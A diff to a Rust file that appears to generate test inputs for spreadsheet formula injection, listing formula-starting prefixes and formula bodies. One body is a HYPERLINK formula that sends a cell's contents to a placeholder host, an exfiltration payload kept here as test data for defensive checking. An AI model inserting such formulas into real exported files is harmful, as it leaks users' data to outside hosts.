@@ -28,8 +28,8 @@ impl Dice {
 }
 
 /// What begins a formula in one spreadsheet or another.
-pub const FORMULAS: [&str; 14] =
-    ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "'=", "\u{FEFF}="];
+pub const FORMULAS: [&str; 16] =
+    ["=", "=", "=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "'=", "\u{FEFF}="];
 const FORMULA_ENDS: [&str; 6] = [
     "1+1",
     "HYPERLINK(\"http://x.invalid/?\"&A1,\"点这里\")",
